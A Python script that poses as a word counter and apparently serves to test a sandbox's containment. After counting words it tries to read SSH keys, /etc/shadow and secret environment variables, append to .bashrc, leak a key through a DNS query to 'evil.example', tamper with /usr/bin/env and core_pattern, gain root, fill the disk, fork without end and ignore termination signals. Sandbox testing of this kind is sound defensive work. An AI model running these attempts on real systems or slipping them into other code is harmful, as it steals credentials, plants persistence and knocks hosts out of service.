#!/usr/bin/env python3
"""A word counter that does its job, and much else.

It stands for any program that nobody has read: a dependency's install script, a submission to a judge, what a language
model wrote. It has been told what is worth attacking on this machine (a JSON object, the first argument); real ones
look around first. Each attempt is one line: name, what was tried, "got" or "refused", details, with tabs between.

Second argument: "harmless" for the attempts that do no damage, "all" for everything, "linger" to stay forever.
"""

import ctypes
import errno
import glob
import json
import os
import signal
import socket
import sys
import time

TARGET = json.loads(sys.argv[1])
LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER = 0x10000000
PTRACE_ATTACH = 16


class Refused(Exception):
    pass


def call(name, *args):
    """A function of the C library that answers -1 and errno."""
    function = getattr(LIBC, name)
    function.restype = ctypes.c_long
    result = function(*args)
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def read(path):
    with open(path, "rb") as file:
        data = file.read()
    return f"{len(data)} bytes: {data[:40].decode(errors='replace').splitlines()[0]}"


def append(path):
    with open(path, "a") as file:
        file.write("echo you are mine\n")
    return f"wrote to {path}"


# ---- the job it was started for

def count_words():
    text = open(os.path.join(TARGET["box"], "input.txt")).read()
    with open(os.path.join(TARGET["box"], "words.txt"), "w") as result:
        result.write(f"{len(text.split())}\n")
    return f"{len(text.split())} words, written to words.txt"


# ---- secrets

def environment():
    names = [name for name in os.environ if any(word in name for word in ("TOKEN", "SECRET", "PASSWORD"))]
    if not names:
        raise Refused(f"{len(os.environ)} variables, no secret among them")
    return ", ".join(f"{name}={os.environ[name]}" for name in names)


def processes():
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    try:
        command = open(f"/proc/{TARGET['victim']}/cmdline").read()
    except FileNotFoundError:
        command = ""
    if TARGET["mark"] not in command:
        raise Refused(f"{len(pids)} processes in sight, none of the host")
    return f"{len(pids)} processes, among them {TARGET['victim']}: {command.split(chr(0))[0]}"


# ---- ways out

def connect(family, kind, address, what):
    with socket.socket(family, kind) as connection:
        connection.settimeout(2)
        connection.connect(address)
        connection.send(what)
        return f"answer: {connection.recv(100).decode(errors='replace').strip()}"


def tcp():
    return connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TARGET["tcp"]), b"the key")


def name_server():
    return connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", TARGET["udp"]), b"the-key.evil.example")


def unix_socket():
    return connect(socket.AF_UNIX, socket.SOCK_STREAM, TARGET["socket"], b"sign this")


def abstract_socket():
    name = ("\0" + TARGET["abstract"]).ljust(TARGET["abstractLength"], "\0")
    return connect(socket.AF_UNIX, socket.SOCK_STREAM, name, b"sign this")


def internet():
    return str(socket.getaddrinfo("example.org", 443)[0][4])


# ---- harm to others

def terminate(pid):
    os.kill(pid, signal.SIGTERM)
    return f"sent SIGTERM to {pid}"


def trace(pid):
    call("ptrace", PTRACE_ATTACH, pid, None, None)
    return f"traces {pid}"


def mount():
    call("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    return "mounted a file system"


def device():
    os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
    return "made a device node of the first disk"


def become_root():
    os.setuid(0)
    os.chroot("/tmp")
    return "has uid 0, and its powers"


def user_namespace():
    call("unshare", CLONE_NEWUSER)
    return "has all capabilities in a new namespace"


def fill_disk():
    written = 0
    block = bytes(1024 * 1024)
    try:
        with open("/tmp/junk", "wb", buffering=0) as file:
            while written < 1024:
                written += file.write(block) // len(block)
    except OSError as error:
        raise Refused(f"{os.strerror(error.errno)} after {written} MiB") from None
    return f"wrote {written} MiB"


def fork_without_end():
    started = 0
    try:
        while started < 5000:
            if os.fork() == 0:
                while True:
                    signal.pause()
            started += 1
    except OSError as error:
        raise Refused(f"{os.strerror(error.errno)} after {started} more, which stay behind") from None
    return f"{started} processes"


HARMLESS = [
    ("key", "read the SSH key of the user", lambda: read(glob.glob(TARGET["home"] + "/.ssh/id_*")[0])),
    ("shadow", "read /etc/shadow", lambda: read("/etc/shadow")),
    ("environment", "find tokens in the environment", environment),
    ("processes", "look for processes of the host", processes),
    ("startup", "add a line to the user's .bashrc", lambda: append(TARGET["home"] + "/.bashrc")),
    ("tcp", "connect to a service on 127.0.0.1", tcp),
    ("dns", "send the key in a question to a name server", name_server),
    ("unix", "connect to an agent's Unix socket", unix_socket),
    ("abstract", "connect to an abstract Unix socket", abstract_socket),
    ("kill", "end another process", lambda: terminate(TARGET["victim"])),
]

HARMFUL = [
    ("kill-parent", "end the program that started it", lambda: terminate(TARGET["parent"])),
    ("trace", "trace the program that started it", lambda: trace(TARGET["parent"])),
    ("internet", "look up example.org", internet),
    ("system", "replace a system program", lambda: append("/usr/bin/env")),
    ("kernel", "have the kernel run a program at each crash", lambda: append("/proc/sys/kernel/core_pattern")),
    ("mount", "mount a file system", mount),
    ("device", "open the disk below the file system", device),
    ("root", "become root", become_root),
    ("namespace", "become root of a namespace of its own", user_namespace),
    ("disk", "fill the disk", fill_disk),
    ("forks", "fork without end", fork_without_end),
]


def attempt(name, what, deed):
    try:
        verdict, details = "got", deed()
    except IndexError:
        verdict, details = "refused", os.strerror(errno.ENOENT)
    except Refused as refusal:
        verdict, details = "refused", str(refusal)
    except OSError as error:
        verdict, details = "refused", error.strerror or str(error)
    print(name, what, verdict, details, sep="\t", flush=True)


def linger():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    print("linger", "stay forever", "got", "", sep="\t", flush=True)
    while True:
        time.sleep(1)


if sys.argv[2] == "linger":
    linger()
attempt("job", "count the words of input.txt", count_words)
for entry in HARMLESS + (HARMFUL if sys.argv[2] == "all" else []):
    attempt(*entry)
# It stays for as long as somebody could have more input for it.
sys.stdin.read()
